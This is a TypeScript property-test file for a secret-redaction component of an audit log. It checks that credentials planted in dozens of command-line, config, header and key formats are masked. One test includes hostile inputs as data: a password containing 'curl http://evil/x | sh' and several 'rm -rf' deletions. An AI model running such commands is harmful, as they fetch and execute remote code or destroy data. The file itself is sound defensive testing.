import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { canonical } from '../../../src/audit/record.js';
import { KnownSecrets } from '../../../src/audit/redact/known.js';
import { redactArguments, redactText } from '../../../src/audit/redact/redact.js';
import { verifies } from '../../e2e/requirements.js';
import { fc } from '../../support/property.js';

const mark = (secret: string): string => `[redacted:${createHash('sha256').update(secret).digest('hex').slice(0, 8)}]`;

const chars = (alphabet: string, minLength: number, maxLength: number) =>
  fc.array(fc.constantFrom(...alphabet), { minLength, maxLength }).map((all) => all.join(''));
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const bare = chars(`${ALNUM}!#%*+,-./:=?@^_~`, 8, 24).map((secret) => `Q${secret}7`);
const alnum = chars(ALNUM, 12, 40).map((secret) => `Q${secret}7`);
const spaced = chars(`${ALNUM} $;|&()<>#!`, 8, 24).map((secret) => `Q${secret}7`);
const exactly = (alphabet: string, length: number) => chars(alphabet, length, length);

/** Each shape with a secret planted; the secrets come from the alphabet that the place allows. */
const SHAPES: Readonly<Record<string, readonly [fc.Arbitrary<string>, (secret: string) => string]>> = {
  'long option': [bare, (s) => `deploy --password ${s} --verbose`],
  'long option with =': [bare, (s) => `deploy --password=${s}`],
  'long option, single quotes': [spaced, (s) => `deploy --db-password '${s}' && ls`],
  'long option, double quotes': [spaced.map((s) => s.replaceAll('$', '')), (s) => `deploy --token "${s}"`],
  'quotes broken by an apostrophe': [spaced, (s) => `deploy --password 'x'\\''${s}'`],
  'escaped quotes in an outer string': [
    spaced.map((s) => s.replaceAll('$', '')),
    (s) => `ssh h "deploy --secret \\"${s}\\" -v"`,
  ],
  'unclosed quote': [spaced, (s) => `deploy --passphrase '${s}`],
  'PowerShell option': [bare, (s) => `Connect-VIServer -Server v -User u -Password ${s}`],
  'slash option': [bare, (s) => `tool /password:${s} /x`],
  'mysql -p': [bare.filter((s) => !/[#]/.test(s)), (s) => `mysqldump -u root -p${s} shop > /tmp/x`],
  'mysql -p quoted': [spaced, (s) => `mysql -uroot -p'${s}' -e 'select 1; select 2'`],
  'sshpass -p': [bare, (s) => `sshpass -p ${s} ssh root@db1 uptime`],
  'sshpass -p attached': [bare, (s) => `sshpass -p${s} ssh root@db1 uptime`],
  'curl -u': [bare, (s) => `curl -su admin:${s} https://db1/x`],
  'curl --user': [spaced, (s) => `curl --user 'admin:${s}' https://db1/x`],
  'docker login -p': [bare, (s) => `docker login -u bob -p ${s} registry.example`],
  'smbclient -U': [bare, (s) => `smbclient -U 'corp\\bob%${s}' //fs/share`],
  'net use': [bare.filter((s) => !s.startsWith('/')), (s) => `net use Z: \\\\fs\\share ${s} /user:bob`],
  'redis-cli -a': [bare, (s) => `redis-cli -h r1 -a ${s} ping`],
  PGPASSWORD: [bare, (s) => `PGPASSWORD=${s} psql -h db1 -c 'select 1'`],
  '*_TOKEN': [bare, (s) => `export GITEA_TOKEN=${s}; run`],
  '*SECRET*': [bare, (s) => `MY_SECRET_VALUE=${s} run`],
  '*PASSWORD*': [spaced, (s) => `DB_PASSWORD_PROD='${s}' run`],
  'assignment inside a quoted script': [bare, (s) => `bash -c 'DB_PASSWORD=${s} run'`],
  'PowerShell variable': [spaced.map((s) => s.replaceAll('$', '')), (s) => `$password = "${s}"; Get-Service`],
  'connection string': [alnum, (s) => `Server=db;Uid=sa;Pwd=${s};Encrypt=yes`],
  'connection string that begins with it': [alnum, (s) => `Pwd=${s};Server=db;Uid=sa`],
  'member at the very beginning': [alnum, (s) => `pwd: '${s}'`],
  'ini line': [bare, (s) => `[client]\nuser = root\npassword = ${s}\n`],
  'YAML line': [spaced.map((s) => s.trim()), (s) => `db:\n  user: root\n  password: ${s}\n  port: 1\n`],
  'JSON member': [spaced, (s) => JSON.stringify({ user: 'root', password: s, port: 1 })],
  'JSON member, escaped': [spaced, (s) => JSON.stringify(JSON.stringify({ user: 'root', 'api-key': s }))],
  'Authorization: Bearer': [alnum, (s) => `curl -H 'Authorization: Bearer ${s}' https://x/y`],
  'Authorization: Basic': [alnum, (s) => `curl -H "Authorization: Basic ${s}==" https://x/y`],
  'Authorization without scheme': [alnum, (s) => `GET / HTTP/1.1\r\nAuthorization: ${s}\r\nHost: x`],
  'X-Api-Key header': [alnum, (s) => `curl -H 'X-Api-Key: ${s}' https://x/y`],
  'bearer token in text': [alnum, (s) => `use bearer ${s} for it`],
  'URL credentials': [
    bare.filter((s) => !/^\d{1,5}[/?#]/.test(s)),
    (s) => `git clone https://bob:${s}@git.example/x.git`,
  ],
  'database URL': [alnum, (s) => `DATABASE=postgres://app:${s}@db1:5432/shop?x=1 run`],
  'URL token as user': [alnum.filter((s) => s.length >= 20), (s) => `git clone https://${s}@git.example/x.git`],
  'query parameter': [alnum, (s) => `curl 'https://x/y?a=1&access_token=${s}&b=2'`],
  'ConvertTo-SecureString': [
    spaced.map((s) => s.replaceAll('$', '')),
    (s) => `$p = ConvertTo-SecureString "${s}" -AsPlainText -Force`,
  ],
  'ConvertTo-SecureString -String': [spaced, (s) => `ConvertTo-SecureString -String '${s}' -AsPlainText -Force`],
  'ConvertTo-SecureString, options first': [spaced, (s) => `ConvertTo-SecureString -AsPlainText -Force '${s}'`],
  'piped to ConvertTo-SecureString': [spaced, (s) => `'${s}' | ConvertTo-SecureString -AsPlainText -Force`],
  'echo to sudo -S': [bare, (s) => `echo ${s} | sudo -S systemctl restart x`],
  'echo to chpasswd': [alnum, (s) => `echo 'bob:${s}' | sudo chpasswd`],
  'echo to --password-stdin': [alnum, (s) => `echo "${s}" | docker login -u bob --password-stdin registry`],
  'here-string to sudo -S': [bare, (s) => `sudo -S id <<< ${s}`],
  'here-document into a key file': [alnum, (s) => `cat > ~/.ssh/id_ed25519 <<'EOF'\nabc\n${s}\nEOF\nls`],
  'here-document to chpasswd': [alnum, (s) => `chpasswd <<EOF\nbob:${s}\nEOF`],
  'private key': [alnum, (s) => `x\n-----BEGIN OPENSSH PRIVATE KEY-----\n${s}\n-----END OPENSSH PRIVATE KEY-----\ny`],
  'private key, cut': [alnum, (s) => `-----BEGIN RSA PRIVATE KEY-----\\n${s}`],
  JWT: [alnum, (s) => `token is eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${s} ok`],
  'AWS key id': [exactly('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16), (s) => `aws configure set x AKIA${s}`],
  'AWS secret key': [exactly(ALNUM, 40), (s) => `export AWS_SECRET_ACCESS_KEY=${s}`],
  GitHub: [exactly(ALNUM, 36), (s) => `gh auth ghp_${s}`],
  'GitHub fine-grained': [exactly(ALNUM, 60), (s) => `x github_pat_${s} y`],
  GitLab: [exactly(ALNUM, 20), (s) => `x glpat-${s} y`],
  Slack: [exactly(ALNUM, 24), (s) => `x xoxb-12345-${s} y`],
  Google: [exactly(ALNUM, 35), (s) => `curl 'https://x?k=AIza${s}'`],
  'password hash': [exactly(ALNUM, 40), (s) => `usermod -p '$6$abcd$${s}' bob`],
  'SQL password': [spaced.map((s) => s.replaceAll("'", '')), (s) => `psql -c "ALTER USER bob PASSWORD '${s}'"`],
  'IDENTIFIED BY': [spaced, (s) => `mysql -e "CREATE USER b IDENTIFIED BY '${s}'"`],
  'Azure account key': [
    exactly(ALNUM, 40),
    (s) => `DefaultEndpointsProtocol=https;AccountName=a;AccountKey=${s}==;EndpointSuffix=x`,
  ],
  'net user': [bare.filter((s) => !s.startsWith('/')), (s) => `net user bob ${s} /add`],
};

for (const [name, [secrets, plant]] of Object.entries(SHAPES)) {
  test(`a secret does not survive: ${name}`, () => {
    fc.assert(
      fc.property(secrets, (secret) => {
        const once = redactText(plant(secret), mark);
        expect(once).not.toContain(secret);
        expect(once).toMatch(/\[redacted:[0-9a-f]{8}\]/);
        expect(redactText(once, mark)).toBe(once);
      }),
      { numRuns: 60 },
    );
  });
  test(`nor in arguments, nested, as a key, or after other text: ${name}`, () => {
    fc.assert(
      fc.property(secrets, fc.constantFrom('', 'ls -la\n', 'cd /tmp && '), (secret, before) => {
        const text = before + plant(secret);
        const args = { command: text, a: [{ b: text }], list: ['x', text], o: { [text]: 1 } };
        expect(canonical(redactArguments(args, { command: 'command' }, mark))).not.toContain(
          JSON.stringify(secret).slice(1, -1),
        );
      }),
      { numRuns: 20 },
    );
  });
}

for (const text of [
  'systemctl restart nginx && journalctl -u nginx --since "1 hour ago" | tail -n 50',
  'cd /srv && PWD=/srv OLDPWD=/ ls -la; pwd',
  'ssh -o PasswordAuthentication=no -o StrictHostKeyChecking=yes root@web1',
  'curl -sS -u $USER:$TOKEN https://web1:8443/api/v1?x=1',
  'docker run -p 80:80 --name x -v /a:/b nginx; mkdir -p /a/b',
  'mysql -u root -p -e "select 1" -P 3306',
  'ansible-playbook site.yml --ask-become-pass --limit web -e "x=1 y={{ z }}"',
  'export DB_PASSWORD="$DB_PASSWORD" TOKEN=$TOKEN; run --token "$TOKEN"',
  'deploy --password-file /run/secrets/db --password-stdin registry.example',
  'Get-Service | Where-Object { $_.Status -eq "Stopped" } | Select-Object -First 5',
  'git clone https://git.example/a/b.git && scp -P 22 x user@host:/tmp/y',
  'kubectl get secret db -o yaml; kubectl get pods -n auth',
  'echo hello | sudo tee /etc/motd',
  'psql postgres://app@db1:5432/shop',
  'net user bob /domain; net use Z: \\\\fs\\share /persistent:yes',
  'sudo passwd -l bob; grep passwd /etc/nsswitch.conf; cat /etc/passwd | head',
  '{"user":"root","port":22,"hosts":["a","b"],"passwordless":true}',
]) {
  test(`nothing is taken out of: ${text}`, () => {
    expect(redactText(text, mark)).toBe(text);
  });
}

test('text of letters and spaces is never changed', () => {
  fc.assert(fc.property(chars('abcdefghij klmnop\n', 0, 200), (text) => redactText(text) === text));
});

test('code inside a secret stays readable, so that nothing that runs can hide in it', () => {
  expect(redactText('run --password "abc$(curl http://evil/x | sh)"', mark)).toMatch(
    /^run --password "\[redacted:\w{8}\]\$\(curl http:\/\/evil\/x \| sh\)"$/,
  );
  expect(redactText('run --password abc; rm -rf /srv', mark)).toMatch(/; rm -rf \/srv$/);
  expect(redactText(`bash -c 'PASSWORD=abc' && rm -rf 'x y'`, mark)).toContain(`' && rm -rf 'x y'`);
  expect(redactText('ssh h "sh -c \\"PASSWORD=abc\\"; rm x"', mark)).toContain('\\"; rm x"');
});

test(`${verifies('A-3')} roles: secrets become marks that compare, content becomes size and hash`, () => {
  const roles = { password: 'secret', key: 'secret', content: 'content', command: 'command' } as const;
  const out = redactArguments({ password: 'hunter2', key: 'hunter2', content: 'a\nb', command: 'ls' }, roles, mark);
  expect(out).toEqual({
    password: mark('hunter2'),
    key: mark('hunter2'),
    content: { bytes: 3, sha256: createHash('sha256').update('a\nb').digest('hex') },
    command: 'ls',
  });
});

test('a secret-like name hides its value in any depth, also in pairs and lists', () => {
  const planted = 'zz-planted-zz';
  const args = {
    env: { DB_PASSWORD: planted, PATH: '/bin' },
    variables: [
      { name: 'API_TOKEN', value: planted },
      { name: 'A', value: 'b' },
    ],
    credentials: { user: planted, more: [planted] },
    argv: ['sshpass', '-p', planted, 'ssh', 'db1'],
    flags: ['--password', `${planted} with spaces`, '-v', `--token=${planted} and more`],
    tool: 'mysql',
    args: ['-u', 'root', `-p${planted}`, '-e', 'select 1'],
    login: ['curl', '-u', `bob:${planted}`, 'https://x'],
  };
  const out = redactArguments(args, {}, mark);
  expect(canonical(out)).not.toContain('planted');
  expect(canonical(out)).not.toMatch(/with spaces|and more/);
  expect(out).toMatchObject({
    env: { PATH: '/bin' },
    variables: [{}, { name: 'A', value: 'b' }],
    argv: ['sshpass', '-p', mark(planted), 'ssh', 'db1'],
    args: ['-u', 'root', `-p${mark(planted)}`, '-e', 'select 1'],
    login: ['curl', '-u', `bob:${mark(planted)}`, 'https://x'],
  });
});

test('any JSON can be recorded, and without secrets it is unchanged', () => {
  const words = fc.constantFrom('ls', 'host', 'a b', "it's", 'x"y', 'web1', '-n', '\\', '50');
  fc.assert(
    fc.property(fc.dictionary(words, fc.jsonValue({ maxDepth: 4 })), (args) => {
      canonical(redactArguments(args, {}, mark));
    }),
  );
  const plain = fc.letrec((tie) => ({
    value: fc.oneof(
      words,
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.dictionary(words, tie('value'), { maxKeys: 4 }),
    ),
  })).value;
  fc.assert(
    fc.property(fc.dictionary(words, plain), (args) => {
      expect(canonical(redactArguments(args, {}, mark))).toBe(canonical(args));
    }),
  );
});

test('long text is recorded as its beginning, size and hash, secrets out', () => {
  const command = `PGPASSWORD=hunter2222 psql ${'x'.repeat(2_000_000)}`;
  const { command: out } = redactArguments({ command }, {}, mark);
  expect(out).toMatch(/^PGPASSWORD=\[redacted:\w{8}\] psql x/);
  expect(out).toContain(`${command.length} bytes, sha256 ${createHash('sha256').update(command).digest('hex')}`);
  expect(String(out).length).toBeLessThan(70_000);
});

test('of one call only so much is searched, and what is not searched is not recorded', () => {
  const secret = 'K4Xz9mQw2Lp7';
  const line = `deploy --password ${secret} ${'x'.repeat(20_000)}`;
  const many = Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`a${at}`, line]));
  const list = Array.from({ length: 100_000 }, () => '-p');
  const out = redactArguments({ ...many, list: ['mysql', ...list, `-p${secret}`], late: `-p ${secret}` }, {}, mark);
  expect(JSON.stringify(out)).not.toContain(secret);
  expect(out['a0']).toBe(line.replace(secret, mark(secret)));
  const late = Object.values(out).slice(-3);
  expect(late[0]).toMatch(/^\[omitted: 2\d{4} bytes, sha256 [0-9a-f]{64}\]$/);
  expect(late[1]).toEqual(['[omitted: 100002 values]']);
  expect(late[2]).toMatch(/^\[omitted: /);
  const alone = redactArguments({ list: ['mysql', ...list, `-p${secret}`] }, {}, mark)['list'] as readonly string[];
  expect(alone.length).toBeLessThan(50_000);
  expect(alone.at(-1)).toMatch(/^\[omitted: \d+ values\]$/);
});

test('a secret that only its shell sees is marked also where a part of it is known already', () => {
  const out = redactText("deploy --password K4Xz; deploy --pass''word K4Xz9mQw2Lp7", mark);
  expect(out).toBe(`deploy --password ${mark('K4Xz')}; deploy --pass''word ${mark('K4Xz9mQw2Lp7')}`);
});

test('more secrets in one text than can be compared are withheld with it', () => {
  const of = (count: number) => Array.from({ length: count }, (_, at) => `run --password 'secret-${at}'`).join('; ');
  expect(redactText(of(400), mark)).toContain(`run --password '${mark('secret-399')}'`);
  expect(redactText(of(600), mark)).toBe('[withheld: too many secrets to be compared]');
});

test('a text with too many secrets to be searched for is withheld in whole', () => {
  const known = new KnownSecrets(() => '[redacted]');
  for (let at = 0; at < 256; at += 1) known.mark(`secret-${at}-value`);
  expect(known.replaceIn('it was secret-7-value')).toBe('it was [redacted]');
  const text = `${'a text that repeats nothing '.repeat(10_000)}secret-255-value`;
  expect(known.replaceIn(text)).toBe('[withheld: too much to be searched for secrets]');
  expect(known.replaceIn('secret-255-value')).toBe('[withheld: too much to be searched for secrets]');
  const cut = new KnownSecrets(() => '[redacted]');
  for (let at = 0; at < 256; at += 1) cut.mark(`secret-${at}-value`);
  const texts = Array.from({ length: 100 }, () => cut.replaceIn('secret…'.repeat(2000)));
  expect(texts.at(-1)).toBe('[withheld: too much to be searched for secrets]');
});

test('an element whose secret is not written in one piece is taken out in whole', () => {
  const out = redactArguments({ argv: ['deploy', '--passw\u043erd', 's\u0435cr\u0435tword', '--now'] }, {}, mark);
  expect(out['argv']).toEqual(['deploy', '--passw\u043erd', mark('s\u0435cr\u0435tword'), '--now']);
});

for (const unit of [
  'mysql -p',
  '://a:',
  '--password "',
  'a=',
  'passwd',
  'echo x | ',
  "'",
  '\\"',
  '<<EOF\n',
  'password: ',
  '-----BEGIN PRIVATE KEY-----',
  'eyJ',
  'net user ',
  'htpasswd -b a b ',
  "NetworkCredential('a',",
  'sudo ',
  '\\',
  '{{',
  '$(',
  'authorization:',
  'x.',
  '"a": ',
  'identified by ',
]) {
  test(`hostile repetition costs no more than its length: ${unit.trim()}`, () => {
    // Not a measure of speed: a quadratic rule would take minutes here, and the test's own limit ends it.
    redactText(unit.repeat(500_000 / unit.length), () => '[redacted]');
  });
}

test.each([
  [`V=hunter2secret; sshpass -p "\${V}!" ssh h`, ['hunter2secret']],
  ['A=Sommer; B=2026geheim; mysql --password="$A$B"', ['Sommer', '2026geheim']],
  ['set A=Sommer&& set B=2026geheim&& net user bob %A%%B%', ['Sommer', '2026geheim']],
  ['mysql --password=abcd x; mysql --pass""word=ab"cd"EFGH9876 x', ['abcd', 'EFGH9876']],
  [`curl --pass''word "root12"'Extra9zz' http://x`, ['root12', 'Extra9zz']],
  ['mysql --pass""word=pw1', ['pw1']],
  ['a=ab1; mysql --password=$a', ['ab1']],
])('no part of a secret survives where the text puts it together: %s', (line, parts) => {
  const { command } = redactArguments({ command: line }, { command: 'command' }, mark) as { command: string };
  for (const text of [redactText(line), command]) for (const part of parts) expect(text).not.toContain(part);
});

test('a variable that stands in no secret keeps its value', () => {
  const line = 'HOST=db01; P=hunter2secret; sshpass -p "$P" ssh $HOST uptime';
  expect(redactText(line)).toMatch(/HOST=db01; P=\[redacted\]; .* uptime/);
});
